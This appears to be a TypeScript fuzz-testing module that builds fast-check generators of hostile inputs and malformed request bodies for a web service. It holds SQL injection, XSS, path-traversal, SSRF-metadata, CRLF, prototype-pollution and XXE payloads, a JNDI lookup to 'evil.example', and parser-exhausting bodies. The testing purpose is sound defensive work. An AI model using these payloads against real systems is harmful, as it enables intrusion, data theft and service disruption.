/**
 * Hostile inputs as fast-check arbitraries: strings that attack parsers and back ends (SQL and Odoo-domain
 * injection, path traversal, template and header injection, unicode tricks, NUL, CRLF, very long), JSON values with
 * prototype-pollution keys, and raw bodies that break on the way in (too large, too deep, not JSON, not UTF-8,
 * a compressed stream that is not one).
 */
import fc from 'fast-check';

export const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE mappings; --",
  '" OR 1=1 --',
  '1) UNION SELECT * FROM token_cache --',
  "['|', ('id', '!=', 0)]",
  '[["id","!=",0]]',
  '%%',
  '%',
  '_',
  '*',
  '{"$ne": null}',
  '{"$where": "sleep(1000)"}',
  '${7*7}',
  '{{7*7}}',
  '#{7*7}',
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..%252f..%252fetc%252fpasswd',
  '/etc/passwd\u0000.png',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  'a\r\nSet-Cookie: injected=1',
  'a\r\n\r\nHTTP/1.1 200 OK',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'res.users',
  'ir.config_parameter',
  'calendar.event',
  'sudo',
  'NaN',
  'Infinity',
  '-1',
  '0',
  '1e309',
  '9007199254740993',
  'null',
  'undefined',
  'true',
  '',
  ' ',
];

const UNICODE = [
  '\u0000',
  '\u0000\u0000\u0000',
  '\r\n',
  '\u2028\u2029',
  '\u202e\u0074\u0078\u0074\u002e\u0065\u0078\u0065',
  '\ufeff',
  '\ud800',
  '\udfff\ud800',
  '😀👨‍👩‍👧‍👦',
  'Ω≈ç√∫˜µ≤≥÷',
  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǫ̗',
  'ﷺ',
  '\u00a0\u2000\u3000',
  'ｆｕｌｌｗｉｄｔｈ',
];

/** A string that tries something: injection, traversal, unicode, control characters, or sheer length. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...INJECTIONS) },
  { weight: 2, arbitrary: fc.constantFrom(...UNICODE) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...INJECTIONS, ...UNICODE), fc.constantFrom(...INJECTIONS, ...UNICODE))
      .map(([a, b]) => `${a}${b}`),
  },
  { weight: 1, arbitrary: fc.integer({ min: 1_000, max: 20_000 }).map((n) => 'A'.repeat(n)) },
);

const POLLUTION_KEYS = ['__proto__', 'constructor', 'prototype', '__defineGetter__', 'toString', 'valueOf'];

/** JSON values with hostile strings, odd types and prototype-pollution keys at any depth. */
export const hostileValue: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    hostileString,
    fc.constantFrom(null, true, false, 0, -1, 1e308, -0, Number.MAX_SAFE_INTEGER + 2, 0.1),
    fc.array(tie('value'), { maxLength: 4 }),
    tie('object'),
  ),
  object: fc
    .array(
      fc.tuple(
        fc.oneof(
          fc.constantFrom(...POLLUTION_KEYS),
          hostileString.map((s) => s.slice(0, 64)),
        ),
        tie('value'),
      ),
      { maxLength: 5 },
    )
    .map((entries) => {
      // JSON.parse keeps "__proto__" as an own key; build the object the same way so it survives stringify.
      const text = `{${entries.map(([k, v]) => `${JSON.stringify(k)}:${JSON.stringify(v) ?? 'null'}`).join(',')}}`;
      return JSON.parse(text) as unknown;
    }),
})).value;

export interface RawBody {
  kind: string;
  bytes: Buffer;
  contentType?: string;
  contentEncoding?: string;
}

const json = (kind: string, value: unknown): RawBody => ({
  kind,
  bytes: Buffer.from(JSON.stringify(value) ?? 'null'),
  contentType: 'application/json',
});

/** Bodies that must be refused whatever route receives them (broken, too big, too deep, not JSON, not UTF-8). */
export const brokenBody: fc.Arbitrary<RawBody> = fc.oneof(
  fc.constantFrom<RawBody>(
    { kind: 'broken json', bytes: Buffer.from('{"track": tru'), contentType: 'application/json' },
    { kind: 'trailing garbage', bytes: Buffer.from('{"a":1}}}}'), contentType: 'application/json' },
    { kind: 'json with NUL', bytes: Buffer.from('{"a":"\u0000"\u0000}'), contentType: 'application/json' },
    {
      kind: 'not utf-8',
      bytes: Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]),
      contentType: 'application/json',
    },
    // Well-formed JSON in UTF-16 (body-parser reads it), but every route's schema refuses it.
    {
      kind: 'utf-16',
      bytes: Buffer.from('{"track":"yes","choices":1,"authMode":1}', 'utf16le'),
      contentType: 'application/json; charset=utf-16',
    },
    { kind: 'unknown charset', bytes: Buffer.from('{"track":true}'), contentType: 'application/json; charset=x-evil' },
    {
      kind: 'bad gzip',
      bytes: Buffer.from('not gzip at all'),
      contentType: 'application/json',
      contentEncoding: 'gzip',
    },
    { kind: 'unknown encoding', bytes: Buffer.from('{}'), contentType: 'application/json', contentEncoding: 'x-evil' },
    {
      kind: 'xml',
      bytes: Buffer.from('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>'),
      contentType: 'application/xml',
    },
    {
      kind: 'form',
      bytes: Buffer.from('track=true&__proto__[admin]=1'),
      contentType: 'application/x-www-form-urlencoded',
    },
    {
      kind: 'multipart',
      bytes: Buffer.from('--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n--x--'),
      contentType: 'multipart/form-data; boundary=x',
    },
  ),
  fc.integer({ min: 300_000, max: 1_500_000 }).map((n) => json('huge string', { pad: 'x'.repeat(n) })),
  fc.integer({ min: 20_000, max: 120_000 }).map((n) => ({
    kind: 'deep array',
    bytes: Buffer.from(`${'['.repeat(n)}${']'.repeat(n)}`),
    contentType: 'application/json',
  })),
  fc.integer({ min: 5_000, max: 60_000 }).map((n) => ({
    kind: 'deep object',
    bytes: Buffer.from(`${'{"a":'.repeat(n)}1${'}'.repeat(n)}`),
    contentType: 'application/json',
  })),
  fc
    .integer({ min: 10_000, max: 40_000 })
    .map((n) => json('wide object', Object.fromEntries(Array.from({ length: n }, (_, i) => [`k${i}`, i])))),
  hostileString.map((s) => json('json string', s)),
  fc.constantFrom(null, 0, true, 'x', []).map((v) => json('json scalar', v)),
);
